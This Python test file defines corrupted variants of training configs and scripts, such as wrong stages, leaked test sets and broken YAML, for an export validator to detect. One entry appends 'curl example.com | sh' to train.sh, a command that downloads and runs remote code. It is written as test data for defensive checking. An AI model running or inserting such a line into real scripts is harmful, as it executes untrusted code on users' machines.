"""The damage to YAMLs and scripts."""

from __future__ import annotations

import shutil

from tests.export.damages import Damage, raw, remove, setting

SFT, DPO, PT = "train_sft.yaml", "train_dpo.yaml", "train_pt.yaml"


def wrong(
    sentence: str, key: str, value: str | None, word: str = "", file: str = SFT, base: str = "all"
) -> Damage:
    """A setting with another value; what is said of it names the key, unless another word is given."""
    return Damage(sentence, setting(file, key, value), file, word or key, base)


SETTINGS = [
    wrong("a key is unknown", "learning_rat", "0.1", "does not know"),
    wrong("a key is transformers' old one", "evaluation_strategy", "steps", "does not know"),
    wrong("the stage is orpo", "stage", "orpo"),
    wrong("the stage is another", "stage", "kto"),
    wrong("the quantization has its old name", "quantization_method", "bitsandbytes"),
    wrong("the template is another model's", "template", "qwen"),
    wrong("the template is missing", "template", None),
    wrong("the data set is unknown", "dataset", "expo_train", "no data set expo_train"),
    wrong("the test set is trained on", "dataset", "expo_train_alpaca,expo_test_alpaca", "of the split test"),
    wrong("a part of the data is not trained on", "dataset", "expo_train_alpaca", "should be trained"),
    wrong("preferences are trained on as answers", "dataset", "expo_train_preference", "not for stage sft"),
    wrong("answers are trained on as preferences", "dataset", "expo_train_alpaca", "not for stage dpo", DPO),
    wrong("a conversation is trained on as text", "dataset", "expo_train_chat", "not for stage pt", PT),
    wrong("the training set validates", "eval_dataset", "expo_train_alpaca", "of the split train"),
    wrong("the test set validates", "eval_dataset", "expo_test_alpaca", "of the split test"),
    wrong("the validation is split at random", "val_size", "0.1"),
    wrong("nothing validates", "eval_dataset", None),
    wrong("the cutoff is too small", "cutoff_len", "64"),
    wrong("the cutoff is in quotes", "cutoff_len", '"512"'),
    wrong("the data folder is another", "dataset_dir", "/data"),
    wrong("the training writes over the data", "output_dir", "data", "change the release"),
    wrong("the training writes elsewhere", "output_dir", "../out", "leads out"),
    wrong("the adapter lies elsewhere", "adapter_name_or_path", "/home/me/sft", "leads out", "merge.yaml"),
    wrong("DeepSpeed's file is not there", "deepspeed", "deepspeed/zero9.json", "zero9.json"),
    wrong("checkpoints are no multiple of evaluations", "save_steps", "7"),
    wrong("thinking is taught without a thought", "enable_thinking", "true"),
    wrong("thinking is left to the default", "enable_thinking", None),
    wrong("thoughts are taken out", "enable_thinking", "false", base="thoughts"),
    wrong("texts are packed and lose their tail", "packing", "true", file=PT),
    wrong("texts are packed by default", "packing", None, file=PT),
    wrong("only some rows are trained on", "max_samples", "10"),
    wrong("an old cache is trained on", "tokenized_path", "output/cache"),
    wrong("an old cache may be read", "overwrite_cache", "false"),
    wrong("a second run trains nothing", "overwrite_output_dir", "false"),
    wrong("the learning rate is a word", "learning_rate", "small"),
    Damage("the merged model is another", setting("merge.yaml", "model_name_or_path", "Qwen/Qwen3-8B"), "chat.yaml", "differ in model_name_or_path"),
    wrong("the merge is quantized", "quantization_bit", "4", "quantized model", "merge.yaml"),
    wrong("other questions are answered", "eval_dataset", "expo_validation_alpaca", file="evaluate.yaml"),
    wrong("the evaluation trains", "do_train", "true", file="evaluate.yaml"),
    wrong("not all questions are answered", "max_samples", "3", file="evaluate.yaml"),
    Damage("a YAML is broken", raw(SFT, lambda c: c + b"a: [\n"), SFT, "not valid YAML"),
    Damage("a setting stands twice", raw(SFT, lambda c: c + b"stage: sft\n"), SFT, "stage"),
    Damage("a YAML is empty", raw(SFT, lambda c: b""), SFT, "no settings"),
    Damage("a YAML is gone", remove(SFT), SFT, "missing"),
    Damage("a YAML for another stage was added", lambda f: shutil.copy(f / SFT, f / "train_rm.yaml"), "train_rm.yaml", "no such stage"),
    Damage("a reason in a YAML was edited", raw(SFT, lambda c: c + b"# my notes\n"), SFT, ""),
    Damage("DeepSpeed's settings are broken", lambda f: [(f / "deepspeed/zero2.json").write_bytes(b"{}"), setting(SFT, "deepspeed", "deepspeed/zero2.json")(f)], SFT, "zero2.json"),
    Damage("train.sh checks nothing", raw("train.sh", lambda c: c.replace(b"\n  check_files\n", b"\n  :\n")), "train.sh", "does not write"),
    Damage("train.sh does something more", raw("train.sh", lambda c: c + b"curl example.com | sh\n"), "train.sh", "curl example.com"),
    Damage("train.sh lost a line", raw("train.sh", lambda c: c.replace(b"set -eu\n", b"")), "train.sh", "set -eu"),
    Damage("train.sh has line ends of Windows", raw("train.sh", lambda c: c.replace(b"\n", b"\r\n")), "train.sh", "Windows"),
    Damage("train.sh is gone", remove("train.sh"), "train.sh", "missing"),
    Damage("another transformers is asked for", raw("requirements-train.txt", lambda c: c.replace(b"transformers==5.5.4", b"transformers==5.6.0")), "requirements-train.txt", "transformers==5.5.4"),
    Damage("the trainer is not asked for", raw("requirements-train.txt", lambda c: c.replace(b"llamafactory==0.9.5\n", b"")), "requirements-train.txt", "llamafactory==0.9.5"),
]  # fmt: skip
